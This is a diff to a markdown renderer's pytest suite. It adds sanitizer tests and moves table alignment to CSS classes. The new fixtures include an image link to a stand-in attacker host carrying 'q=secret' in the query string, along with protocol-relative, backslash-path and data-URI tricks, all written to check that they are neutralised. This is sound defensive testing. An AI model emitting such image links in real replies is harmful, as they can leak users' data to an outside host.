@@ -6,13 +6,13 @@ import time
 
 import pytest
 
-from webapp.markdown import LiveRender, render, render_plain, settled_end
+from webapp.markdown import LiveRender, render, render_plain, sanitize, settled_end
 
 
 def test_tables_lists_code_and_math_render():
     html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n\n```python\ndef f(): pass\n```\n\n"
                   "Inline $E=mc^2$ and\n\n$$\\frac{a}{b}$$")
-    assert "<table>" in html and '<td style="text-align:right">2</td>' in html
+    assert "<table>" in html and '<td class="align-right">2</td>' in html
     assert 'type="checkbox"' in html
     assert '<pre class="highlight"><code class="language-python"><span class="k">def</span>' in html
     assert "<msup><mi>c</mi><mn>2</mn></msup>" in html and "<mfrac>" in html
@@ -76,3 +76,26 @@ def test_a_long_reply_stays_cheap_to_update():
         live.update(text[:end])
     total = time.perf_counter() - started
     assert total < 10 * full, (total, full)
+
+
+@pytest.mark.parametrize("source, shown", [
+    ("![x](https://evil.example/?q=secret)", '<a href="https://evil.example/?q=secret" rel="noopener noreferrer nofollow">x</a>'),
+    ("![](//evil.example/x.png)", '<a href="//evil.example/x.png" rel="noopener noreferrer nofollow">//evil.example/x.png</a>'),
+    ("![a](/\\evil.example/x.png)", '<img src="/%5Cevil.example/x.png" alt="a">'),  # %5C is a path, not a slash
+    ("![ok](/static/a.png)", '<img src="/static/a.png" alt="ok">'),
+    ("![dot](data:image/png;base64,iVBORw0K)", '<img src="data:image/png;base64,iVBORw0K" alt="dot">'),
+])
+def test_images_load_only_from_this_site_or_data(source, shown):
+    assert render(source).strip() == f"<p>{shown}</p>"
+
+
+def test_the_sanitizer_alone_keeps_no_remote_image_and_no_data_link():
+    cleaned = sanitize('<img src="https://evil.example/x"><img src="data:image/svg+xml,<svg/>">'
+                       '<a href="data:text/html,hi">y</a><img src="/a.png">')
+    assert cleaned == '<img><img><a rel="noopener noreferrer nofollow">y</a><img src="/a.png">'
+
+
+def test_table_alignment_is_a_class_not_a_style_attribute():
+    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
+    assert '<th class="align-center">a</th>' in html and '<td class="align-right">2</td>' in html
+    assert "style=" not in html
